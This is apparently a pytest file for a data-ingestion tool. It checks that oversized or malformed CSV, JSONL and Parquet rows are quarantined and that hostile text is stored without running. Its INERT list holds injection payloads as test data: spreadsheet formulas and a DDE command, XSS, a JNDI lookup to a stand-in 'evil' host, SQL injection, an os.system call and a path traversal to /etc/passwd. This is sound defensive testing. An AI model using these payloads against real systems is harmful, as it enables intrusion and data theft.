"""Hostile rows: one that cannot be used is set aside with its line and what to do, its neighbours are taken; one that
can be used is kept as it is written, and commands nobody, neither here nor in a preview, a log or a report.

What else a reader sets aside stands in the tests of that reader (`test_csv_source.py`, `test_json_source.py`, ...).
"""

import json
from pathlib import Path

import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from domain_ft.history.tables import read_history
from domain_ft.landing.quarantine import read_quarantine
from domain_ft.mining.preview import write_preview
from domain_ft_tests.hostile.place import DOMAIN, Place
from domain_ft_tests.landing_world import COLUMNS, a_row, as_csv, as_jsonl

MB = 1 << 20
HEADER = ",".join(COLUMNS).encode() + b"\n"
ROW = as_csv([a_row()]).removeprefix(HEADER)
FIRST, LAST = a_row(TC_Key="first"), a_row(TC_Key="last")
QUOTED = ROW.replace(b"the basket adds up", b'"' + b"y" * 999 + b"\n" + b"y" * 9 + b'"')


def csv_between(line: bytes) -> tuple[str, bytes]:
    """A row of a CSV file between two good ones."""
    first, last = (as_csv([row]).removeprefix(HEADER) for row in (FIRST, LAST))
    return "a.csv", HEADER + first + line + last


def jsonl_between(line: bytes | dict[str, object]) -> tuple[str, bytes]:
    """A line of a JSONL file between two good ones."""
    return "a.jsonl", as_jsonl(FIRST, line, LAST)


def quoted(inside: bytes) -> bytes:
    """A row whose test's text is a quoted cell."""
    return ROW.replace(b"the basket adds up", b'"' + inside + b'"')


ROWS: dict[str, tuple[tuple[str, bytes], str, str | None]] = {
    "a cell of 10 MB": (
        csv_between(as_csv([a_row(TC_Steps="x" * 10 * MB)]).removeprefix(HEADER)),
        "row_too_long",
        None,
    ),
    "a cell of 10 MB in JSON": (jsonl_between(a_row(TC_Steps="x" * 10 * MB)), "cell_too_long", "TC_Steps"),
    "a line of 40 MB": (csv_between(b"x" * 40 * MB + b"\n"), "row_too_long", None),
    "a row of 40 MB": (csv_between(ROW.replace(b"basket", b"x" * 40 * MB)), "row_too_long", None),
    "a quoted cell of 12 MB": (csv_between(quoted(b"x" * 12 * MB)), "row_too_long", None),
    "a quoted cell of 12,000 lines": (csv_between(quoted((b"x" * 1000 + b"\n") * 12_000)), "bad_quoting", None),
    "rows inside a quote": (csv_between(quoted(ROW * 120_000)), "bad_quoting", None),
    "a start of a million spaces": (
        csv_between(ROW.replace(b"2024-05-31T08:15:00Z", b"2024" + b" " * 1_000_000 + b"x")),
        "date_unparsable",
        "Build_Test_Start_Date",
    ),
    "a start in superscripts": (
        csv_between(ROW.replace(b"2024-05-31T08:15:00Z", "²²²²²²²²²²".encode())),
        "date_unparsable",
        COLUMNS[1],
    ),
    "escapes for a verdict": (csv_between(ROW.replace(b"Pass", b"\x1b[2J[red]")), "verdict_unknown", "TE_Test_Result"),
    "a number of 5,000 digits": (jsonl_between(b'{"Build_ID": ' + b"9" * 5000 + b"}"), "json_invalid", None),
    "the same key twice": (jsonl_between(b'{"Build_ID": 1, "\\u0042uild_ID": 2}'), "json_duplicate_key", None),
    "half a surrogate pair in a list": (
        jsonl_between(json.dumps({**a_row(), "commit": ["x"]}).replace('["x"]', '["\\ud800"]').encode()),
        "json_bad_unicode",
        None,
    ),
}


@pytest.mark.parametrize("name", ROWS)
def test_a_hostile_row_is_set_aside_and_its_neighbours_are_taken(name: str, place: Place) -> None:
    (file, content), rule, column = ROWS[name]

    report = place.ingest(place.write(file, content))

    assert (report["read"], report["accepted"], report["rejected"], report["duplicates"]) == (3, 2, 1, 0)
    assert read_history(Path(report["path"])).tests["test_id"].to_list() == ["first", "last"]
    found = read_quarantine(place.home.quarantine(DOMAIN)).row(0, named=True)
    line = 3 if file.endswith(".csv") else 2
    assert (found["source_file"], found["line"], found["rule"], found["column"]) == (file, line, rule, column)
    assert found["advice"]
    assert len(found["raw"]) <= 10_000
    assert place.unfinished() == []


def test_a_quote_that_is_never_closed_takes_the_rest_of_a_large_file_as_one_row(place: Place) -> None:
    name, content = csv_between(ROW.replace(b"the basket", b'"the basket') + ROW * 150_000)
    report = place.ingest(place.write(name, content))
    assert (report["read"], report["accepted"], report["rejected"]) == (2, 1, 1)
    assert any("line 3: a quote is not closed before line 150004" in note for note in report["notes"])


def test_a_cell_that_a_parquet_file_says_twenty_thousand_times_costs_no_memory(place: Place) -> None:
    """20 MB in each of 20,000 rows, 400 GB in a file of a few KB: nothing is written out."""
    rows = 20_000
    big = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array(["x" * 20_000_000]))
    cells = {name: pa.array([text] * rows) for name, text in a_row().items()}
    cells["TC_Key"] = pa.array([f"t{number}" for number in range(rows)])
    good = pa.table({**cells, "TC_Steps": pa.array([""] * rows)}).slice(0, 2)
    path = place.folder / "a.parquet"
    with pq.ParquetWriter(path, pa.table({**cells, "TC_Steps": big}).schema) as writer:
        writer.write_table(pa.table({**cells, "TC_Steps": big}))
        writer.write_table(good.cast(pa.table({**cells, "TC_Steps": big}).schema))
    assert path.stat().st_size < 2 * MB

    report = place.ingest(path)

    assert (report["read"], report["accepted"], report["rejected"]) == (rows + 2, 2, rows)
    found = read_quarantine(place.home.quarantine(DOMAIN)).row(0, named=True)
    assert (found["line"], found["rule"], found["column"]) == (1, "cell_too_long", "TC_Steps")
    assert found["value"] == "20,000,000 bytes"
    assert '"Build_ID": "b1"' in found["raw"]


INERT = {
    "a formula": '=HYPERLINK("http://evil","x")',
    "a command for a spreadsheet": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a template": "{{ 7*7 }}{% for x in y %}${jndi:ldap://evil}",
    "escapes of a terminal": "\x1b[2J\x1b]0;pwned\x07[red]bold[/red]",
    "text that runs backwards": "\u202egnp.exe\u2066",
    "SQL": "'); DROP TABLE tests; --",
    "code in a list": "[__import__('os').system('touch made')]",
    "a number that cannot be written": "[0x" + "f" * 5000 + "]",
    "brackets": "[" * 700 + "]" * 700,
    "a NUL": "a\0b",
    "a path": "../../../../etc/passwd",
    "a million letters": "x" * 1_000_000,
}


@pytest.mark.parametrize("name", INERT)
def test_text_that_would_like_to_be_more_is_kept_as_it_is(name: str, place: Place) -> None:
    text = INERT[name]
    row = a_row(Build_ID=text, TC_Key=text, TE_Summary=text, commit=text, CR_Component_Name=text)

    report = place.ingest(place.write("a.jsonl", as_jsonl(row)))

    history = read_history(Path(report["path"]))
    assert history.tests.row(0) == (text, "shop", text)
    assert history.builds.select("build_id", "change_text").row(0) == (text, text)
    assert not Path("made").exists()


def test_a_preview_for_a_spreadsheet_holds_no_formula(tmp_path: Path) -> None:
    texts = [INERT["a formula"], INERT["a command for a spreadsheet"], "-1+1", "+1", "\t=1", "fine"]
    write_preview(tmp_path / "preview.csv", pl.DataFrame({"anchor": texts}))
    cells = pl.read_csv(tmp_path / "preview.csv", infer_schema=False)["anchor"].to_list()
    assert [cell[:2] for cell in cells] == ["'=", "'@", "'-", "'+", "'\t", "fi"]


def test_a_table_for_a_person_shows_names_and_never_obeys_them(place: Place) -> None:
    path = place.write("\x1b[2J[red]x\nall is well\u202e.csv", as_csv([FIRST, a_row(TC_Key="")]))
    code, stdout, stderr = place.run("ingest", DOMAIN, path)
    assert (code, stderr) == (0, "")
    assert "␛[2J[red]x␊all is well⟨U+202E⟩.csv" in stdout
    assert not any(letter < " " and letter != "\n" for letter in stdout)


def test_json_for_a_script_holds_no_escapes_either(place: Place) -> None:
    report = place.ingest(place.write("\x9b31m\u202e.csv", as_csv([FIRST])))
    assert report["files"][0]["name"] == "\x9b31m\u202e.csv"
    code, stdout, _ = place.run("ingest", DOMAIN, place.folder / "\x9b31m\u202e.csv", "--json")
    assert code == 0
    assert stdout.strip().isprintable()
